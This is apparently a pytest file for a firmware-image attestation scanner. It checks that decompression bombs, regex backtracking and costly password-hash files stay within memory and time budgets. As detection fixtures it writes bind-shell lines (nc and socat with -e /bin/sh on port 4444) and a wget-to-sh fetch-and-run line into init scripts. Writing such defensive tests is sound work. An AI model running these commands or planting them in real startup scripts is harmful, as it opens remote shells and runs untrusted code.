"""Bounded cost for any file: a few kilobytes must never buy gigabytes of memory or hours of CPU.

Each of these files is small and made with the real tools (mke2fs, cpio, gzip). Before the
budgets they cost: the ext2 superblock 4.9 GB of memory, the listener line hours in a
backtracking regular expression, the shadow file minutes of MD5-crypt. Now each is refused or
capped, and whatever was left unchecked is named (IMAGE_TOO_COSTLY, so the verdict is UNKNOWN at
best). The time budgets are tested with a clock that advances by itself, never by waiting.
"""

from __future__ import annotations

import itertools
import re
import struct
import tracemalloc
from pathlib import Path

import pytest

from attest.image.appraise_image import appraise_inspection
from attest.image.limits import Limits
from attest.image.walk import inspect_file
from attest.manifest import Manifest
from attest.trust import TrustStore
from attest.verdict import Verdict
from tests.conftest import skip_unless_ci
from tests.image import builders as b
from tests.image.conftest import Kit

pytestmark = pytest.mark.timeout(60)


@pytest.fixture(autouse=True)
def _tools() -> None:
    if b.missing_tools():
        skip_unless_ci(f"image tools not installed: {', '.join(b.missing_tools())}")


def gzip_cpio(tmp_path: Path, name: str, files: dict[str, bytes | str]) -> Path:
    cpio = b.cpio_newc(b.tree(tmp_path / f"{name}-tree", files), tmp_path / f"{name}.cpio")
    return b.gzip_file(cpio, tmp_path / f"{name}.cpio.gz")


def codes(path: Path, **kwargs: object) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for f in inspect_file(path, **kwargs).findings:  # type: ignore[arg-type]
        found.setdefault(f.code, []).append(f"{f.path}: {f.detail}")
    return found


def test_an_ext2_superblock_with_an_absurd_block_size_is_refused_before_any_allocation(tmp_path: Path) -> None:
    image = bytearray(b.ext2(b.tree(tmp_path / "t", {"etc/version": "1\n"}), tmp_path / "fs.ext2", kib=128)
                      .read_bytes())
    struct.pack_into("<I", image, 1024 + 24, 0xFFFFFFFF)  # s_log_block_size
    (tmp_path / "fs.ext2").write_bytes(bytes(image))
    bomb = b.gzip_file(tmp_path / "fs.ext2", tmp_path / "fs.ext2.gz")
    assert bomb.stat().st_size < 2048
    tracemalloc.start()
    try:
        found = codes(bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert any("block size of 1024 << 4294967295" in d for d in found["IMAGE_CORRUPT"])
    assert peak < 64 << 20  # the gzip's 128 KiB and change; it was 4.9 GB


@pytest.mark.parametrize("line", [b"nc " * 300_000, b"socat " * 150_000, b"wget " * 180_000],
                         ids=["nc", "socat", "wget"])
def test_a_long_startup_line_with_no_match_is_checked_in_linear_time(tmp_path: Path, line: bytes) -> None:
    """The pathological case is a line the rule does not match: each nc, socat or wget made the
    old backtracking expression rescan the rest of the line, hours for these 900 KB lines (from
    a gzip of about a kilobyte). The pytest timeout is what failed before."""
    path = gzip_cpio(tmp_path, "init", {"etc/init.d/S99net": b"#!/bin/sh\n" + line + b"\n"})
    assert path.stat().st_size < 4096
    found = codes(path)
    assert "IMAGE_STARTUP_LISTENER" not in found and "IMAGE_FETCH_AND_RUN" not in found


@pytest.mark.parametrize("line, code", [
    (b"nc " * 300_000 + b"-l -p 4444 -e /bin/sh", "IMAGE_STARTUP_LISTENER"),
    (b"socat " * 150_000 + b"TCP-LISTEN:4444 EXEC:/bin/sh", "IMAGE_STARTUP_LISTENER"),
    (b"wget " * 180_000 + b"http://203.0.113.9/x | sh", "IMAGE_FETCH_AND_RUN"),
], ids=["nc", "socat", "wget"])
def test_the_linear_rules_still_find_what_ends_a_long_line(tmp_path: Path, line: bytes, code: str) -> None:
    path = gzip_cpio(tmp_path, "init", {"etc/init.d/S99net": b"#!/bin/sh\n" + line + b"\n"})
    found = codes(path)
    assert [d.split(": line ")[0] for d in found[code]] == ["etc/init.d/S99net"]


def test_a_startup_script_over_a_megabyte_is_still_checked(tmp_path: Path) -> None:
    """Scripts over 1 MiB used to be skipped by the startup rules without a word."""
    script = b"#!/bin/sh\n" + b"# padding\n" * 200_000 + b"wget -q -O- http://203.0.113.9/x | sh\n"
    found = codes(gzip_cpio(tmp_path, "big", {"etc/init.d/S99net": script}))
    assert found["IMAGE_FETCH_AND_RUN"] == ["etc/init.d/S99net: line 200002: wget -q -O- http://203.0.113.9/x | sh"]


def test_a_script_over_the_cap_is_named_as_unchecked(tmp_path: Path) -> None:
    path = gzip_cpio(tmp_path, "capped", {"etc/init.d/S99net": b"#!/bin/sh\n" + b"echo\n" * 1000})
    found = codes(path, limits=Limits(max_script_bytes=1000))
    assert found["IMAGE_TOO_COSTLY"] == ["etc/init.d/S99net: 5010 bytes, over the 1000-byte cap for the startup "
                                         "script rules: the file was not checked by it"]


def test_a_shadow_file_of_sixteen_thousand_md5_crypt_hashes_checks_a_few_and_names_the_rest(tmp_path: Path) -> None:
    line = "root:$1$abcdefgh$abcdefghijklmnopqrstuv:18000:0:99999:7:::\n"
    path = gzip_cpio(tmp_path, "shadow", {"etc/shadow": line * 16_000})
    assert path.stat().st_size < 4096
    found = codes(path)
    [named] = found["IMAGE_TOO_COSTLY"]
    assert named.startswith("etc/shadow: 16000 password hashes; only the first 64 were compared")
    assert "the other 15936 (from account root on) were not checked" in named


class StepClock:
    """A clock that moves ``step`` seconds each time it is read: a budget runs out after a known
    number of reads, whatever the machine's load."""

    def __init__(self, step: float) -> None:
        self._ticks = itertools.count()
        self.step = step

    def __call__(self) -> float:
        return next(self._ticks) * self.step


def test_the_file_budget_ends_the_check_naming_what_was_left_unread(kit: Kit, trust: TrustStore,
                                                                   manifest: Manifest) -> None:
    inspection = inspect_file(kit["genuine"], trust, limits=Limits(max_seconds=20), clock=StepClock(1.0))
    [stopped] = [f for f in inspection.findings if f.code == "IMAGE_TOO_COSTLY"]
    where = re.fullmatch(r"the time budget of 20 s ran out while reading (\S+); left unread: (\S+) and "
                         r"everything after it", stopped.detail)
    assert where is not None and where[1] == where[2]
    assert inspection.root.problem == "IMAGE_TOO_COSTLY"
    assert appraise_inspection(inspection, [manifest]).verdict is Verdict.UNKNOWN  # genuine, but not all read


def test_one_slow_check_costs_that_check_only(tmp_path: Path) -> None:
    script = b"#!/bin/sh\n" + b"echo ok\n" * 50_000 + b"nc -l -p 4444 -e /bin/sh\n"
    tool = b"\x7fELF ... I am hAnt! pay 0.1 BTC ..."
    path = gzip_cpio(tmp_path, "slow", {"etc/init.d/S99net": script, "usr/bin/tool": tool})
    found = codes(path, limits=Limits(max_seconds=10_000, max_check_seconds=5), clock=StepClock(1.0))
    assert found["IMAGE_TOO_COSTLY"] == ["etc/init.d/S99net: the startup script rules ran past its 5 s budget; "
                                         "the rest of this file was not checked by it"]
    assert "IMAGE_STARTUP_LISTENER" not in found  # its line was past the point the check reached
    assert found["BACKDOOR_INDICATOR"][0].startswith("usr/bin/tool: ")  # the other file's checks still ran
